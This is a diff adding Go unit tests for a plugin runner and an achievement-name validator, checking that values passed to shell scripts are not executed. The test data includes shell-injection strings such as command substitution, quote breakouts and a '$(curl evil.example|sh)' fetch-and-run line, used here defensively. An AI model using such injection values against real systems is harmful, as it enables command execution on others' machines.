@@ -0,0 +1,94 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestExecutePluginQuotesValues(t *testing.T) {
+	dir := t.TempDir()
+	out := filepath.Join(dir, "out")
+	pwned := filepath.Join(dir, "pwned")
+
+	tests := []struct {
+		name   string
+		script string
+		value  string
+		want   string
+	}{
+		{"bare", "printf %s $NAME > " + out, "Deep Worker", "Deep Worker"},
+		{"single quoted", "printf %s '{\"name\":\"$NAME\"}' > " + out, "Deep Worker", `{"name":"Deep Worker"}`},
+		{"double quoted", `printf %s "Done: $NAME" > ` + out, "Deep Worker", "Done: Deep Worker"},
+		{"braces", "printf %s ${NAME} > " + out, "it's", "it's"},
+		{"prefixed", "printf %s '${POM_NAME}' > " + out, "it's", "it's"},
+		{"command substitution", "printf %s $NAME > " + out, "$(touch " + pwned + ")", "$(touch " + pwned + ")"},
+		{"backticks in quotes", "printf %s '$NAME' > " + out, "`touch " + pwned + "`", "`touch " + pwned + "`"},
+		{"quote breakout", "printf %s '$NAME' > " + out, "'; touch " + pwned + "; '", "'; touch " + pwned + "; '"},
+		{"double quote breakout", `printf %s "$NAME" > ` + out, `"; touch ` + pwned + `; "`, `"; touch ` + pwned + `; "`},
+		{"environment", "printf %s $NAME > " + out, "$HOME", "$HOME"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			os.Remove(out)
+			plugin := Plugin{Name: "test", Script: tt.script}
+			if err := executePlugin(plugin, map[string]string{"NAME": tt.value}); err != nil {
+				t.Fatalf("executePlugin failed: %v", err)
+			}
+			got, err := os.ReadFile(out)
+			if err != nil {
+				t.Fatalf("script wrote nothing: %v", err)
+			}
+			if string(got) != tt.want {
+				t.Errorf("script saw %q, want %q", got, tt.want)
+			}
+			if _, err := os.Stat(pwned); err == nil {
+				t.Fatalf("value %q ran as a command", tt.value)
+			}
+		})
+	}
+}
+
+func TestExecutePluginEnvironment(t *testing.T) {
+	t.Setenv("PLUGIN_TEST_TOKEN", "secret")
+	out := filepath.Join(t.TempDir(), "out")
+
+	plugin := Plugin{Name: "test", Script: `printf %s "$POM_NAME" > ` + out}
+	if err := executePlugin(plugin, map[string]string{"NAME": "$(id)"}); err != nil {
+		t.Fatalf("executePlugin failed: %v", err)
+	}
+	if got, _ := os.ReadFile(out); string(got) != "$(id)" {
+		t.Errorf("POM_NAME = %q, want the raw value", got)
+	}
+
+	// Single quotes still get the environment, as the built-in plugins expect
+	plugin.Script = `printf %s 'Bearer $PLUGIN_TEST_TOKEN $1' > ` + out
+	if err := executePlugin(plugin, nil); err != nil {
+		t.Fatalf("executePlugin failed: %v", err)
+	}
+	if got, _ := os.ReadFile(out); string(got) != "Bearer secret $1" {
+		t.Errorf("script saw %q, want the token from the environment", got)
+	}
+}
+
+func TestValidateAchievementName(t *testing.T) {
+	tests := []struct {
+		name  string
+		valid bool
+	}{
+		{"Deep Worker", true},
+		{"Ten-Hour Week", true},
+		{"Früh_aufsteher 2", true},
+		{"$(curl evil.example|sh)", false},
+		{"`id`", false},
+		{"a'b", false},
+		{"semi;colon", false},
+	}
+	for _, tt := range tests {
+		rule := Achievement{ID: "custom", Name: tt.name, Metric: MetricSessions, Threshold: 1}
+		err := ValidateAchievement(rule)
+		if (err == nil) != tt.valid {
+			t.Errorf("ValidateAchievement(name %q) = %v, want valid %v", tt.name, err, tt.valid)
+		}
+	}
+}